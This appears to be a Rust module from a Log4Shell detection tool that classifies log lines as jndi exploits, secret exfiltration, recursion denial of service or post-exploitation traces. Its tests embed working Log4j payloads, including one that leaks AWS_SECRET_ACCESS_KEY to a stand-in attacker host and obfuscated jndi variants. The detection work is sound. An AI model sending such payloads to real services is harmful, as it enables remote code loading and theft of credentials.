//! Decides what an evaluated line means: a `jndi` exploit (and where it calls home), victim data
//! sent out, a recursion denial of service, or traces that an exploit already ran.

use std::borrow::Cow;
use std::sync::LazyLock;

use aho_corasick::packed;
use memchr::memmem::Finder;
use serde::{Serialize, Serializer};

use super::lookup::{self, Exfiltration};
use super::substitutor::{self, Limits};

/// What kind of attack a hit is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum HitClass {
    /// A `${jndi:...}` lookup: remote code loading (CVE-2021-44228).
    Jndi,
    /// A lookup reading victim state (`${env:...}`, `${sys:...}`, ...) into a network name.
    Exfiltration,
    /// A lookup that recurses forever or blows a limit (CVE-2021-45105).
    RecursionDos,
    /// Log lines a JVM writes after it followed a JNDI reference.
    PostExploitation,
}

impl HitClass {
    /// Every class, in report order.
    pub const ALL: [HitClass; 4] = [
        HitClass::Jndi,
        HitClass::Exfiltration,
        HitClass::RecursionDos,
        HitClass::PostExploitation,
    ];

    /// Stable snake_case name, as in JSON output.
    pub fn as_str(self) -> &'static str {
        match self {
            HitClass::Jndi => "jndi",
            HitClass::Exfiltration => "exfiltration",
            HitClass::RecursionDos => "recursion_dos",
            HitClass::PostExploitation => "post_exploitation",
        }
    }
}

/// The naming protocol a `jndi` lookup asks the victim to use.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum JndiProtocol {
    /// `ldap://`
    Ldap,
    /// `ldaps://`
    Ldaps,
    /// `rmi://`
    Rmi,
    /// `dns://`
    Dns,
    /// `iiop://`
    Iiop,
    /// `corba:` / `corbaname:`
    Corba,
    /// `nds://`
    Nds,
    /// `nis://`
    Nis,
    /// `http://`
    Http,
    /// `https://`
    Https,
    /// Any other scheme, lower-cased.
    Other(String),
}

impl JndiProtocol {
    /// Maps a URL scheme (any case) to a protocol.
    pub fn from_scheme(scheme: &str) -> Self {
        // Short ASCII schemes (nearly all) are lower-cased on the stack: attackers vary the
        // case of every letter, and a lower-cased copy on the heap per hit added up.
        let mut buffer = [0u8; 16];
        let lower: Cow<'_, str> = match buffer.get_mut(..scheme.len()) {
            Some(buffer) if scheme.is_ascii() => {
                buffer.copy_from_slice(scheme.as_bytes());
                buffer.make_ascii_lowercase();
                Cow::Borrowed(std::str::from_utf8(buffer).expect("ASCII stays ASCII"))
            }
            _ => Cow::Owned(scheme.to_lowercase()),
        };
        match lower.as_ref() {
            "ldap" => Self::Ldap,
            "ldaps" => Self::Ldaps,
            "rmi" => Self::Rmi,
            "dns" => Self::Dns,
            "iiop" | "iiopname" => Self::Iiop,
            "corba" | "corbaname" => Self::Corba,
            "nds" => Self::Nds,
            "nis" => Self::Nis,
            "http" => Self::Http,
            "https" => Self::Https,
            other => Self::Other(other.to_string()),
        }
    }

    /// The canonical lower-case scheme name.
    pub fn as_str(&self) -> &str {
        match self {
            Self::Ldap => "ldap",
            Self::Ldaps => "ldaps",
            Self::Rmi => "rmi",
            Self::Dns => "dns",
            Self::Iiop => "iiop",
            Self::Corba => "corba",
            Self::Nds => "nds",
            Self::Nis => "nis",
            Self::Http => "http",
            Self::Https => "https",
            Self::Other(other) => other,
        }
    }
}

impl std::fmt::Display for JndiProtocol {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

impl Serialize for JndiProtocol {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(self.as_str())
    }
}

/// Where a `jndi` name points, parsed as `scheme://host[:port]/path`.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct JndiTarget {
    /// The scheme, when the name has one.
    pub protocol: Option<JndiProtocol>,
    /// The host (lower-cased unless it still holds a lookup), e.g. `evil.example`.
    pub host: Option<String>,
    /// The port, when given.
    pub port: Option<u16>,
    /// What follows the first `/` after the host, e.g. `Exploit` or `a/b`.
    pub path: Option<String>,
}

/// Byte index of the first of `targets` in `s` that is not inside a `${...}`.
fn find_outside_lookups(s: &str, targets: &[u8]) -> Option<usize> {
    let bytes = s.as_bytes();
    // Without a `$` there is no lookup to skip (most names and hosts).
    if memchr::memchr(b'$', bytes).is_none() {
        return bytes.iter().position(|b| targets.contains(b));
    }
    let mut depth = 0usize;
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'$' if bytes.get(i + 1) == Some(&b'{') => {
                depth += 1;
                i += 1;
            }
            b'}' if depth > 0 => depth -= 1,
            b if depth == 0 && targets.contains(&b) => return Some(i),
            _ => {}
        }
        i += 1;
    }
    None
}

fn rfind_outside_lookups(s: &str, target: u8) -> Option<usize> {
    if memchr::memchr(b'$', s.as_bytes()).is_none() {
        return memchr::memrchr(target, s.as_bytes());
    }
    let mut found = None;
    let mut from = 0;
    while let Some(at) = find_outside_lookups(&s[from..], &[target]) {
        found = Some(from + at);
        from += at + 1;
    }
    found
}

impl JndiTarget {
    /// Parses a `jndi` name such as `ldap://evil.example:1389/a` or `rmi://[::1]/x`.
    pub fn parse(name: &str) -> Self {
        let name = name.trim();
        if memchr::memchr(b'$', name.as_bytes()).is_none() {
            return Self::parse_without_lookups(name);
        }
        Self::parse_stepping_over_lookups(name)
    }

    /// The general parse of a trimmed name: separators inside a `${…}` do not count.
    fn parse_stepping_over_lookups(name: &str) -> Self {
        Self::parse_with(
            name,
            |s| find_outside_lookups(s, b":"),
            |s| find_outside_lookups(s, b"/?#"),
            |s| rfind_outside_lookups(s, b'@'),
        )
    }

    /// [`JndiTarget::parse`] for a name without a `$` (nearly all): no lookup to step over, so
    /// each separator is one `memchr` away.
    fn parse_without_lookups(name: &str) -> Self {
        Self::parse_with(
            name,
            |s| memchr::memchr(b':', s.as_bytes()),
            |s| memchr::memchr3(b'/', b'?', b'#', s.as_bytes()),
            |s| memchr::memrchr(b'@', s.as_bytes()),
        )
    }

    /// Splits `scheme:[//][user@]host[:port][/path]` with the given searches for the scheme's
    /// colon, the end of the authority and the last `@` of the authority.
    fn parse_with(
        name: &str,
        colon: impl Fn(&str) -> Option<usize>,
        authority_end: impl Fn(&str) -> Option<usize>,
        last_at: impl Fn(&str) -> Option<usize>,
    ) -> Self {
        let Some(colon) = colon(name) else {
            return Self {
                path: non_empty(name),
                ..Self::default()
            };
        };
        let scheme = &name[..colon];
        let protocol = (!scheme.is_empty()).then(|| JndiProtocol::from_scheme(scheme));
        let rest = name[colon + 1..].trim_start_matches('/');
        let authority_end = authority_end(rest).unwrap_or(rest.len());
        let mut authority = &rest[..authority_end];
        let path = rest.get(authority_end + 1..).and_then(non_empty);
        if let Some(at) = last_at(authority) {
            authority = &authority[at + 1..];
        }
        let (host, port) = split_port(authority);
        // One copy of the host, lower-cased unless it holds a lookup.
        let host = (!host.is_empty()).then(|| {
            if substitutor::find_open(host.as_bytes(), 0).is_some() {
                host.to_string()
            } else if host.is_ascii() {
                host.to_ascii_lowercase()
            } else {
                host.to_lowercase()
            }
        });
        Self {
            protocol,
            host,
            port,
            path,
        }
    }
}

fn split_port(authority: &str) -> (&str, Option<u16>) {
    if let Some(inner) = authority.strip_prefix('[')
        && let Some(end) = inner.find(']')
    {
        let port = inner[end + 1..]
            .strip_prefix(':')
            .and_then(|p| p.parse().ok());
        return (&inner[..end], port);
    }
    match rfind_outside_lookups(authority, b':') {
        Some(at) => match authority[at + 1..].parse::<u16>() {
            Ok(port) => (&authority[..at], Some(port)),
            Err(_) => (authority, None),
        },
        None => (authority, None),
    }
}

fn non_empty(s: &str) -> Option<String> {
    (!s.is_empty()).then(|| s.to_string())
}

/// One attack found in a line, before the line's position and source are attached.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Finding {
    pub class: HitClass,
    pub payload: String,
    pub target: JndiTarget,
    pub exfiltration: Vec<Exfiltration>,
    pub detail: Option<String>,
}

impl Finding {
    fn new(class: HitClass, payload: String) -> Self {
        Self {
            class,
            payload,
            target: JndiTarget::default(),
            exfiltration: Vec::new(),
            detail: None,
        }
    }
}

const SNIPPET_CHARS: usize = 240;

fn snippet(s: &str) -> String {
    // Cut at the character after the first `SNIPPET_CHARS`, without collecting them one by one.
    let end = s
        .char_indices()
        .nth(SNIPPET_CHARS)
        .map_or(s.len(), |(at, _)| at);
    s[..end].to_string()
}

/// Number of `${` left open at the end of `s`. Jumps from `$` and `}` to the next with
/// `memchr2`: it runs over the whole line of every candidate without a `jndi` lookup, and a
/// byte-by-byte loop was a visible part of their cost.
fn unclosed(s: &str) -> usize {
    let bytes = s.as_bytes();
    let (mut open, mut i) = (0usize, 0);
    while let Some(offset) = memchr::memchr2(b'$', b'}', &bytes[i..]) {
        let at = i + offset;
        if bytes[at] == b'}' {
            open = open.saturating_sub(1);
            i = at + 1;
        } else if bytes.get(at + 1) == Some(&b'{') {
            open += 1;
            i = at + 2;
        } else {
            i = at + 1;
        }
    }
    open
}

/// Evaluates decoded text and classifies what the evaluation did, adding the findings not
/// already in `findings`; `at_end` says the text ends where the line ends, so a lookup left
/// open there was cut by the logger, not by a window.
pub(crate) fn analyze(decoded: &str, limits: &Limits, at_end: bool, findings: &mut Vec<Finding>) {
    // Text whose lookups are all plain `jndi` or inert ones evaluates to itself: what is found
    // is the `jndi` lookups, and nothing left in the text is exfiltration (they read nothing).
    if substitutor::is_plain(decoded, limits) {
        for name in substitutor::plain_jndi_names(decoded) {
            push_new(findings, jndi_finding(name));
        }
        return;
    }
    analyze_evaluated(decoded, limits, at_end, findings);
}

/// Adds `finding` unless an equal one is there already.
fn push_new(findings: &mut Vec<Finding>, finding: Finding) {
    if !findings.contains(&finding) {
        findings.push(finding);
    }
}

/// A `jndi` finding for the substituted lookup name `name`.
fn jndi_finding(name: &str) -> Finding {
    let mut finding = Finding::new(HitClass::Jndi, jndi_payload(name));
    finding.target = JndiTarget::parse(name);
    finding
}

/// [`analyze`] by a full evaluation, for any text.
fn analyze_evaluated(decoded: &str, limits: &Limits, at_end: bool, findings: &mut Vec<Finding>) {
    let mut evaluation = substitutor::evaluate(decoded, limits);
    // Counting what is left open scans the whole text: only done when it can matter.
    let open = if at_end && evaluation.jndi.is_empty() && evaluation.abort.is_none() {
        unclosed(decoded)
    } else {
        0
    };
    if open > 0 {
        // Log lines get truncated; close what was cut so the lookup can still be judged.
        let closed = format!("{decoded}{}", "}".repeat(open.min(limits.max_depth)));
        let retry = substitutor::evaluate(&closed, limits);
        if !retry.jndi.is_empty() {
            evaluation = retry;
        }
    }
    for call in &mut evaluation.jndi {
        let mut finding = jndi_finding(&call.name);
        finding.exfiltration = std::mem::take(&mut call.exfiltration);
        push_new(findings, finding);
    }
    if evaluation.jndi.is_empty() {
        // Escaped (`$${jndi:`) or otherwise inert lookups still show intent.
        let text = if evaluation.abort.is_some() {
            decoded
        } else {
            &evaluation.output
        };
        if let Some(name) = literal_jndi_name(text, at_end) {
            let mut finding = Finding::new(HitClass::Jndi, jndi_payload(&name));
            finding.target = JndiTarget::parse(&name);
            finding.detail = Some("jndi lookup that log4j would not evaluate".to_string());
            push_new(findings, finding);
        }
    }
    if let Some(abort) = &evaluation.abort {
        let start = decoded.find("${").unwrap_or(0);
        let mut finding = Finding::new(HitClass::RecursionDos, snippet(&decoded[start..]));
        finding.detail = Some(abort.to_string());
        push_new(findings, finding);
    } else {
        for (leak, context) in exfiltration_in_network_context(&evaluation.output, limits) {
            let mut finding = Finding::new(HitClass::Exfiltration, context);
            finding.exfiltration.push(leak);
            push_new(findings, finding);
        }
    }
}

/// `${jndi:NAME}`, built without the formatting machinery (once per hit).
fn jndi_payload(name: &str) -> String {
    let mut payload = String::with_capacity(name.len() + 8);
    payload.push_str("${jndi:");
    payload.push_str(name);
    payload.push('}');
    payload
}

/// The name after a literal `${jndi:` (any case), up to its `}` or the end of the token; a name
/// running to the end of `text` only counts when that is the end of the line.
fn literal_jndi_name(text: &str, at_end: bool) -> Option<String> {
    const PREFIX: &[u8] = b"jndi:";
    let bytes = text.as_bytes();
    let mut from = 0;
    let at = loop {
        let open = substitutor::find_open(bytes, from)?;
        let name = open + 2;
        if bytes
            .get(name..name + PREFIX.len())
            .is_some_and(|prefix| prefix.eq_ignore_ascii_case(PREFIX))
        {
            break name + PREFIX.len();
        }
        from = name;
    };
    let rest = &text[at..];
    let end = rest
        .find(|c: char| c == '}' || c.is_whitespace() || c == '"' || c == '\'')
        .unwrap_or(rest.len());
    if end == rest.len() && !at_end {
        return None;
    }
    Some(rest[..end].to_string())
}

/// Unresolved exfiltrating lookups at top level of `output` that sit where a host name or URL
/// is built, e.g. `${env:USER}.oast.example` or `http://${sys:user.name}`.
fn exfiltration_in_network_context(output: &str, limits: &Limits) -> Vec<(Exfiltration, String)> {
    let bytes = output.as_bytes();
    let mut found = Vec::new();
    let mut pos = 0;
    while let Some(start) = substitutor::find_open(bytes, pos) {
        let Some(len) = find_outside_lookups(&output[start + 2..], b"}") else {
            break;
        };
        let end = start + 2 + len;
        let inner = &output[start + 2..end];
        pos = end + 1;
        let before = &output[..start];
        let after = &output[end + 1..];
        // The place is checked first: it costs a few comparisons, while naming the lookup
        // evaluates it again, and most lookups left over (the `jndi` ones) sit in no host.
        if !(before.ends_with("://") || before.ends_with('@') || followed_by_domain(after)) {
            continue;
        }
        // Without a `${` inside, the name substitutes to itself: no evaluation needed.
        let leak = if substitutor::find_open(inner.as_bytes(), 0).is_none() {
            lookup::exfiltration(inner)
        } else {
            lookup::exfiltration(&substitutor::substitute_name(inner, limits))
        };
        let Some(leak) = leak else {
            continue;
        };
        let from = before.rfind(char::is_whitespace).map_or(0, |w| w + 1);
        let to = after
            .find(char::is_whitespace)
            .map_or(output.len(), |w| end + 1 + w);
        found.push((leak, snippet(&output[from..to])));
    }
    found
}

/// True for `.label.tld...`: a lookup result is being used as a DNS label.
fn followed_by_domain(after: &str) -> bool {
    let Some(rest) = after.strip_prefix('.') else {
        return false;
    };
    let run: &str = {
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '.'))
            .unwrap_or(rest.len());
        rest[..end].trim_end_matches('.')
    };
    match run.rsplit_once('.') {
        Some((_, tld)) => tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic()),
        None => false,
    }
}

/// What a JVM logs after it followed a JNDI reference, with the host when the line names it.
const TRACES: &[&str] = &[
    "Error looking up JNDI resource",
    "com.sun.jndi.",
    "Reference Class Name",
];

/// Finds a post-exploitation trace in a raw line.
pub(crate) fn post_exploitation(line: &str) -> Option<Finding> {
    // Most candidate lines hold no trace. On lines this short, three SIMD substring searches
    // built once beat one automaton, whose rare-byte prefilter stops at every capital letter.
    static FINDERS: LazyLock<Vec<Finder<'static>>> =
        LazyLock::new(|| TRACES.iter().map(Finder::new).collect());
    // One packed search for all three first rules out nearly every line; the searches above
    // then run only on lines with a trace, to pick it in the order of `TRACES`.
    static ANY_TRACE: LazyLock<Option<packed::Searcher>> =
        LazyLock::new(|| packed::Config::new().builder().extend(TRACES).build());
    if let Some(any) = ANY_TRACE.as_ref()
        && any.find(line.as_bytes()).is_none()
    {
        return None;
    }
    let (at, trace) = TRACES
        .iter()
        .zip(FINDERS.iter())
        .find_map(|(trace, finder)| finder.find(line.as_bytes()).map(|at| (at, *trace)))?;
    let mut finding = Finding::new(HitClass::PostExploitation, snippet(&line[at..]));
    finding.detail = Some(trace.to_string());
    let after = &line[at + trace.len()..];
    if let Some(open) = after.find('[')
        && let Some(close) = after[open..].find(']')
    {
        finding.target = JndiTarget::parse(&after[open + 1..open + close]);
    }
    Some(finding)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn analyze_one(s: &str) -> Vec<Finding> {
        let mut findings = Vec::new();
        analyze(s, &Limits::default(), true, &mut findings);
        findings
    }

    #[test]
    fn parses_jndi_targets() {
        let t = JndiTarget::parse("ldap://evil.example:1389/a");
        assert_eq!(t.protocol, Some(JndiProtocol::Ldap));
        assert_eq!(
            (t.host.as_deref(), t.port, t.path.as_deref()),
            (Some("evil.example"), Some(1389), Some("a"))
        );
        let t = JndiTarget::parse("RMI://[::1]:1099/x/y");
        assert_eq!(
            (t.protocol.unwrap().as_str(), t.host.as_deref(), t.port),
            ("rmi", Some("::1"), Some(1099))
        );
        let t = JndiTarget::parse("dns://${env:A:B}.x.example");
        assert_eq!(t.host.as_deref(), Some("${env:A:B}.x.example"));
        assert_eq!(t.port, None);
        let t = JndiTarget::parse("corbaname:iiop:1.2@h");
        assert_eq!(t.protocol, Some(JndiProtocol::Corba));
        assert_eq!(JndiTarget::parse("x").protocol, None);
        for scheme in [
            "LdAp",
            "ldaps",
            "RMI",
            "CorbaName",
            "Ünï",
            "ABCDEFGHIJKLMNOPQ",
            "\u{212a}x",
        ] {
            let expected = match scheme.to_lowercase().as_str() {
                "ldap" => JndiProtocol::Ldap,
                "ldaps" => JndiProtocol::Ldaps,
                "rmi" => JndiProtocol::Rmi,
                "corbaname" => JndiProtocol::Corba,
                other => JndiProtocol::Other(other.to_string()),
            };
            assert_eq!(JndiProtocol::from_scheme(scheme), expected, "{scheme}");
        }
    }

    #[test]
    fn names_without_lookups_parse_as_the_general_parser_does() {
        let mut names: Vec<String> = [
            "ldap://Evil.Example:1389/a",
            "rmi://[::1]:1099/x/y",
            "RMI://[::1/x",
            "dns://u:p@h.example:53?q#f",
            "ldap://a@b@c:x/y",
            "corbaname:iiop:1.2@h",
            "x",
            "",
            " ldap:///h/ ",
            "ldap://h:99999/p",
            "http://\u{c4}\u{e9}.example/\u{fc}",
            "iiop://host:/",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        for line in crate::hunt::corpus::generate(29, 600) {
            for call in substitutor::evaluate(&line.text, &Limits::default()).jndi {
                names.push(call.name);
            }
        }
        let mut plain = 0;
        for name in &names {
            plain += usize::from(!name.contains('$'));
            assert_eq!(
                JndiTarget::parse(name),
                JndiTarget::parse_stepping_over_lookups(name.trim()),
                "{name:?}"
            );
        }
        assert!(plain > 100, "{plain}");
    }

    #[test]
    fn jndi_and_exfiltration_findings() {
        let f = analyze_one("${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}");
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].class, HitClass::Jndi);
        assert_eq!(f[0].target.protocol, Some(JndiProtocol::Dns));
        assert_eq!(f[0].exfiltration[0].key, "AWS_SECRET_ACCESS_KEY");
    }

    #[test]
    fn standalone_exfiltration_only_in_network_context() {
        let f = analyze_one("ua=${env:USER}.oast.example");
        assert_eq!(f[0].class, HitClass::Exfiltration);
        assert_eq!(f[0].payload, "ua=${env:USER}.oast.example");
        assert!(analyze_one("http://${sys:user.name}")[0].class == HitClass::Exfiltration);
        assert!(analyze_one("home is ${env:HOME}/bin and ${sys:user.home}.log").is_empty());
        assert!(
            analyze_one("${env:X:-a}.oast.example").is_empty(),
            "a default reads nothing"
        );
    }

    #[test]
    fn recursion_and_truncation() {
        let f = analyze_one("${${::-${::-$${::-j}}}}");
        assert_eq!(f[0].class, HitClass::RecursionDos);
        assert!(f[0].detail.as_deref().unwrap().contains("45105"));
        let f = analyze_one("GET /?x=${${lower:j}ndi:ldap://cut.example/a");
        assert_eq!(f[0].target.host.as_deref(), Some("cut.example"));
        let f = analyze_one("$${jndi:ldap://esc.example/a}");
        assert_eq!(f[0].class, HitClass::Jndi);
    }

    #[test]
    fn literal_jndi_names_match_a_lower_cased_search() {
        fn reference(text: &str, at_end: bool) -> Option<String> {
            let lower = text.to_ascii_lowercase();
            let at = lower.find("${jndi:")? + "${jndi:".len();
            let rest = &text[at..];
            let end = rest
                .find(|c: char| c == '}' || c.is_whitespace() || c == '"' || c == '\'')
                .unwrap_or(rest.len());
            (end < rest.len() || at_end).then(|| rest[..end].to_string())
        }
        for text in [
            "$${jndi:ldap://a.example/x}",
            "x ${JnDi:rmi://b.example/y} ${jndi:dns://c}",
            "${x} ${jnd ${ ${jndi:ldap://d.example",
            "İ${JNDI:}",
            "ä${${jndi:ldap://e.example/a\"b",
            "${jndi",
            "${jndi:",
            "no lookup at all",
            "",
        ] {
            for at_end in [true, false] {
                assert_eq!(
                    literal_jndi_name(text, at_end),
                    reference(text, at_end),
                    "{text:?} {at_end}"
                );
            }
        }
    }

    #[test]
    fn unclosed_counts_like_a_byte_loop() {
        fn reference(s: &str) -> usize {
            let bytes = s.as_bytes();
            let (mut open, mut i) = (0usize, 0);
            while i < bytes.len() {
                if bytes[i] == b'$' && bytes.get(i + 1) == Some(&b'{') {
                    open += 1;
                    i += 1;
                } else if bytes[i] == b'}' {
                    open = open.saturating_sub(1);
                }
                i += 1;
            }
            open
        }
        for s in [
            "",
            "$",
            "${",
            "}${",
            "$${${x}",
            "${${${a}",
            "$}{${}}${",
            "a$b{c}${d${e}",
            "${$${}",
        ] {
            assert_eq!(unclosed(s), reference(s), "{s:?}");
        }
        for line in crate::hunt::corpus::generate(5, 300) {
            assert_eq!(unclosed(&line.text), reference(&line.text), "{}", line.text);
        }
    }

    /// The plain-`jndi` shortcut must find what a full evaluation finds, on every text it takes.
    #[test]
    fn plain_jndi_text_is_analyzed_as_a_full_evaluation_would() {
        let mut texts: Vec<String> = [
            "${jndi:ldap://a.example/x}",
            "${jndi:a}${jndi:a} ${JnDi:RMI://B.example:1099/y}",
            "$${jndi:x}",
            "a$${jndi:x}",
            "$ ${jndi:b} $5 $",
            "${jndi:x:-y}",
            "${jndi:a:}-",
            "${jndi:a$b}",
            "${jndi:a",
            "x}${jndi:y}}",
            "${jndi:a}${",
            "${jndix}",
            "${jndi}",
            "${ jndi:x}",
            "${jndi:}",
            "${jndi:ldap://${env:X}.a.example/x}",
            "${jndi:ldap://a}${lower:X}",
            "${jndi:ldap://a} ${server.port}",
            "${server.port} ${HOME} ${x:hostName} ${hostName}.a.example",
            "http://${env:USER} ${jndi:a}",
            "${base64:!!}.oast.example ${base64:am5kaQ==}",
            "\u{e9}${jndi:\u{fc}ber.example}",
            "${j\u{130}ndi:x}",
            "no lookup",
            "",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        for line in crate::hunt::corpus::generate(17, 2000) {
            let decoded = crate::hunt::decode::decode_layers(line.text.as_bytes(), 4).0;
            texts.push(String::from_utf8_lossy(&decoded).into_owned());
            texts.push(line.text);
        }
        let limits = Limits::default();
        let small = Limits {
            max_output: 24,
            ..Limits::default()
        };
        let mut plain = 0;
        for text in &texts {
            for start in (0..text.len()).filter(|&i| text.as_bytes()[i..].starts_with(b"${")) {
                let window = &text[start..];
                for limits in [&limits, &small] {
                    for at_end in [true, false] {
                        let mut fast = Vec::new();
                        analyze(window, limits, at_end, &mut fast);
                        let mut full = Vec::new();
                        analyze_evaluated(window, limits, at_end, &mut full);
                        assert_eq!(fast, full, "{window:?}");
                    }
                    plain += usize::from(substitutor::is_plain(window, limits));
                }
            }
        }
        assert!(plain > 500, "the shortcut took only {plain} texts");
    }

    #[test]
    fn benign_templates_are_not_findings() {
        for s in [
            "${server.port}",
            "${HOME}",
            "${project.version}",
            "${REMOVED_DEVICES}",
            "$5.99",
            "${USER:-root}",
        ] {
            assert!(analyze_one(s).is_empty(), "{s}");
        }
    }

    #[test]
    fn post_exploitation_traces() {
        let f =
            post_exploitation("WARN Error looking up JNDI resource [ldap://1.2.3.4:1389/Exploit].")
                .unwrap();
        assert_eq!(f.class, HitClass::PostExploitation);
        assert_eq!(
            (f.target.host.as_deref(), f.target.port),
            (Some("1.2.3.4"), Some(1389))
        );
        assert!(
            post_exploitation("\tat com.sun.jndi.ldap.LdapCtx.c_lookup(LdapCtx.java:1085)")
                .is_some()
        );
        assert!(post_exploitation("Reference Class Name: foo").is_some());
        assert!(post_exploitation("looked up jdbc/app via JNDI").is_none());
    }
}
